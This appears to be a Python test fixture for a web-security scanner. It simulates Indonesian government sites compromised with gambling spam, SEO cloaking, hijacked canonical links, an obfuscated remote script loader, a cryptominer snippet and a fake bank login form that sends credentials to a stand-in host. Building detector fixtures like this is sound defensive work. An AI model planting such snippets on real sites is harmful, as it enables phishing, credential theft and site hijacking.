"""Sites whose pages somebody else has changed, each in another way, and what honest ones look like
when they speak of the same things.

The hosts that gain by it end in ``.test`` and are served by nobody.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

from msgspec.structs import replace

from cyberscan.lab.province.kit import GOOD, page, security_txt, site
from cyberscan.lab.province.shapes import Answer, Site, Visitor
from cyberscan.lab.province.sites import office

_ADVERT: Final = "Situs Slot Gacor Terpercaya"
_XML: Final = "application/xml"
_TEXT: Final = "text/plain; charset=utf-8"
_LANDING: Final = (
    f'<!doctype html><html lang="id"><title>{_ADVERT}</title><h1>{_ADVERT}</h1>'
    '<p><a href="https://slotgacor88.test/daftar">Daftar slot gacor</a></p></html>\n'
)


def taken_over(zone: str, address: str, expires: str) -> tuple[Site, ...]:
    """Return offices of a zone on one address. What was done stands beside each."""
    contact = security_txt(zone, expires)

    def of(
        name: str,
        title: str,
        more: str = "",
        paths: Mapping[str, Answer] | None = None,
        raw_title: str = "",
        visitors: Mapping[Visitor, Answer] | None = None,
    ) -> Site:
        intro = "Layanan, berita, dan dokumen untuk warga kabupaten."
        body = page(title, office=title, intro=intro, more=more, raw_title=raw_title)
        pages = site(body, paths={**contact, **(paths or {})})
        fronts = {visitor: {"/": front} for visitor, front in (visitors or {}).items()}
        plain = office(f"{name}.{zone}", address, title, intro)
        return replace(plain, https=replace(pages, visitors=fronts))

    return (
        # The title and the head only.
        of("bkpsdm", "BKPSDM Kabupaten", raw_title=f"{_ADVERT} | BKPSDM"),
        # A trade of its own.
        of("dinsos", "Dinas Sosial Kabupaten", raw_title="Buy cheap Viagra online"),
        # An advertisement that names nobody.
        of("dpmd", "DPMD Kabupaten", f"<p>{_ADVERT}, daftar sekarang juga.</p>\n"),
        # Search engines are told that the page belongs to another.
        of(
            "perpustakaan",
            "Perpustakaan",
            '<link rel="canonical" href="https://slotgacor88.test/">',
        ),
        # And telephones that they will find it with one whose name says nothing.
        of("kesbangpol", "Kesbangpol", '<link rel="amphtml" href="https://portal-desa.test/amp/">'),
        # The same as the first with a site that the page links to.
        of(
            "bakesbang",
            "Bakesbang",
            '<link rel="canonical" href="https://portal-desa.test/">'
            '<p><a href="https://portal-desa.test/">Masuk</a></p>\n',
        ),
        # Words for search engines, behind the page.
        of("dkp", "Dinas Kelautan", f'<div style="display:none">{_ADVERT}, daftar</div>\n'),
        # Pages of another in the list of the site's own.
        of("dinkes", "Dinas Kesehatan Kabupaten", paths=_sitemap(zone)),
        # A script that hides where it takes another from.
        of("disnaker", "Dinas Tenaga Kerja", _LOADER),
        of("bapenda", "Bapenda Kabupaten", _MINER),
        # A page below a folder for pictures, in place of nothing.
        of(
            "disdik",
            "Dinas Pendidikan Kabupaten",
            '<p><a href="/wp-content/uploads/2026/promo/index.html">Arsip</a></p>\n',
            {"/wp-content/uploads/2026/promo/index.html": Answer(200, GOOD, _LANDING)},
        ),
        # A bank's login on an office's host.
        of("umkm", "UMKM Kabupaten", paths={"/": Answer(200, GOOD, _BANK)}),
        # Robots alone get another page; so do those who come from a search.
        of(
            "inspektorat",
            "Inspektorat Kabupaten",
            visitors={Visitor.BOT: Answer(200, GOOD, _LANDING)},
        ),
        of(
            "satpolpp",
            "Satpol PP Kabupaten",
            visitors={
                Visitor.SEARCHER: Answer(302, (("Location", "https://slotgacor88.test/"),), "")
            },
        ),
        # Telephones are sent elsewhere.
        of(
            "dlhk",
            "DLHK Kabupaten",
            visitors={Visitor.MOBILE: Answer(302, (("Location", "https://senja-biru.test/"),), "")},
        ),
        # A firewall that lets no robot in.
        of("bpbd", "BPBD Kabupaten", visitors={Visitor.BOT: Answer(403, GOOD, "Ditolak.\n")}),
        # Honest: it warns of all that.
        of("kominfo", "Dinas Kominfo Kabupaten", _WARNING),
    )


def _sitemap(zone: str) -> Mapping[str, Answer]:
    base = f"https://dinkes.{zone}"
    own = [f"{base}/layanan-{n}" for n in range(20)]
    spam = [f"{base}/x/situs-slot-gacor-maxwin-{n}" for n in range(5)]
    listed = "".join(f"<url><loc>{url}</loc></url>" for url in (*own, *spam))
    head = '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
    return {
        "/robots.txt": Answer(200, (), f"User-agent: *\nSitemap: {base}/sitemap.xml\n", _TEXT),
        "/sitemap.xml": Answer(200, (), f"{head}{listed}</urlset>\n", _XML),
    }


_LOADER: Final = (
    '<script>var s=document.createElement("script");'
    's.src=atob("aHR0cHM6Ly9qYWhhdC5leGFtcGxlL2guanM=");document.head.appendChild(s)</script>\n'
)
_MINER: Final = '<script>new CoinHive.Anonymous("kunci").start()</script>\n'
_BANK: Final = (
    '<!doctype html><html lang="id"><title>KlikBCA Individual</title><h1>KlikBCA</h1>'
    '<form method="post" action="https://jahat.test/kirim.php"><label>User ID '
    '<input name="user"></label><label>PIN <input name="pin" type="password"></label>'
    "<button>Login</button></form></html>\n"
)
_WARNING: Final = (
    "<article><h2>Waspada judi online</h2><p>Bupati melarang pegawai bermain judi online. Kenali "
    "kata yang dipakai pengiklan: slot gacor, maxwin, togel, link alternatif, bonus new member. "
    "Laporkan situs yang menyisipkan iklan judi ke csirt.</p></article>\n"
)
